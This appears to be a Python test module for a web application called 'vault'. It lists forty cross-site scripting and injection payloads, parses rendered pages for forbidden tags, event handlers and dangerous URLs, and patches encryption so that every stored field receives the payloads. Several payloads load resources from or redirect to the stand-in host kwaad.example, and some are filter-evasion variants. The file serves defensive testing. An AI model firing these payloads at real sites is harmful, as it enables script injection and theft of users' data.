"""Forty texts that try to become something else than text, and what a page may hold (security.md WB-07).

A page of ours has no script, style or handler of its own in it, and no element outside TAGS. So whatever a text
managed to become shows itself, whichever of the forty it was.
"""

import base64
import json
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from typing import Any

import pytest

from vault import versleuteling

VERGIF = (
    "<script>proef()</script>", "<ScRiPt>proef()</sCrIpT>", "</script><script>proef()</script>",
    "<script src=//kwaad.example/x.js></script>", "<img src=x onerror=proef()>", "<img/src=x/onerror=proef()>",
    "<svg onload=proef()>", "<svg><script>proef()</script></svg>", "<svg><animate onbegin=proef() attributeName=x>",
    "<body onload=proef()>", "<iframe src=javascript:proef()></iframe>", "<iframe srcdoc='<script>proef()</script>'>",
    "<object data=javascript:proef()>", "<embed src=javascript:proef()>", "<base href=//kwaad.example/>",
    "<meta http-equiv=refresh content=0;url=//kwaad.example>", "<link rel=stylesheet href=//kwaad.example/x.css>",
    "<style>*{background:url(//kwaad.example)}</style>", "<form action=//kwaad.example><input name=x>",
    "<input autofocus onfocus=proef()>", "<details open ontoggle=proef()>", "<video><source onerror=proef()>",
    "<marquee onstart=proef()>", "<a href=javascript:proef()>x</a>", "<a href='java&#10;script:proef()'>x</a>",
    "javascript:proef()", "data:text/html,<script>proef()</script>", '" onmouseover=proef() x="',
    "' onmouseover='proef()", '"><script>proef()</script>', "'><img src=x onerror=proef()>",
    "</textarea><script>proef()</script>",
    "</title><script>proef()</script>", "--><script>proef()</script><!--", "<![CDATA[<script>proef()</script>]]>",
    "&lt;script&gt;proef()&lt;/script&gt;", "\\u003cscript\\u003eproef()", "{{7*7}}{% debug %}${7*7}",
    "%3Cscript%3Eproef()%3C/script%3E", "<math><mtext><mglyph><style><img src onerror=proef()>",
)  # fmt: skip
KORT = tuple(tekst for tekst in VERGIF if len(tekst) <= 55)
ALLES = "\n".join(VERGIF)

TAGS = {
    "html", "head", "meta", "title", "link", "script", "body", "header", "main", "footer", "nav", "section", "aside",
    "article", "div", "span", "p", "h1", "h2", "h3", "h4", "ul", "ol", "li", "dl", "dt", "dd", "a", "strong", "em", "b",
    "br", "hr", "form", "label", "input", "textarea", "select", "option", "optgroup", "button", "fieldset", "legend",
    "details", "summary", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "svg", "path", "use",
    "symbol", "circle", "rect", "line", "polyline", "polygon", "g", "small", "time", "progress", "abbr", "figure",
    "figcaption", "blockquote", "code", "i", "col", "colgroup", "ins", "del", "noscript", "output", "address", "sup",
    "datalist", "text", "defs", "pattern",
}  # fmt: skip
GEVAARLIJK = ("javascript:", "data:", "vbscript:", "//", "http:")


class Bladlezer(HTMLParser):
    """What stands on a page that no page of ours holds, and its text as a reader sees it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.fout: list[str] = []
        self.tekst: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        velden = {naam: waarde or "" for naam, waarde in attrs}
        if tag not in TAGS:
            self.fout.append(f"<{tag}>")
        self.fout += [
            f"<{tag} {naam}>" for naam in velden if naam.startswith("on") or naam in ("style", "srcdoc")
        ]
        if tag == "script" and not velden.get("src", "").startswith("/static/"):
            self.fout.append("a script of its own")
        if (
            tag == "meta"
            and velden.get("http-equiv", "").lower() == "refresh"
            and "//" in velden.get("content", "")
        ):
            self.fout.append("a page that leads elsewhere")
        for naam in ("href", "src", "action", "formaction", "xlink:href", "data"):
            if velden.get(naam, "").strip().lower().startswith(GEVAARLIJK):
                self.fout.append(f"<{tag} {naam}={velden[naam][:30]}>")
        self.tekst += velden.values()

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.tekst.append(data)

    def handle_comment(self, data: str) -> None:
        if "proef" in data:
            self.fout.append("a comment with the text in it")


def read_page(html: str) -> Bladlezer:
    lezer = Bladlezer()
    lezer.feed(html)
    lezer.close()
    return lezer


class Gifkooi:
    """As `kanaries.Kooi`: what the world asks a word for gets one of the short ones."""

    def __init__(self) -> None:
        self.aantal, self.eigenaar = 0, ""

    def new(self, veld: str) -> str:
        self.aantal += 1
        if self.eigenaar == "lijst":
            return f"<b>proef{self.aantal}</b>"
        return KORT[self.aantal % len(KORT)]

    @contextmanager
    def van(self, eigenaar: str) -> Iterator[None]:
        vorige, self.eigenaar = self.eigenaar, eigenaar
        yield
        self.eigenaar = vorige


@contextmanager
def poisoning(_kooi: Any = None) -> Iterator[None]:
    """Every text that is encrypted meanwhile gets all forty: no factory, form or field can be forgotten."""
    echt = versleuteling.seal

    def seal(sleutel: Any, tekst: bytes, aad: str) -> bytes:
        if "/" in aad:
            gelezen = tekst.decode()
            if aad.startswith("dossiers.bijlage/inhoud"):
                tekst = base64.b64encode(base64.b64decode(tekst) + ALLES.encode())
            elif gelezen.startswith("{"):
                tekst = json.dumps(json.loads(gelezen) | {"toelichting": ALLES}).encode()
            else:
                tekst = f"{gelezen} {ALLES}".encode()
        return echt(sleutel, tekst, aad)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(versleuteling, "seal", seal)
        yield
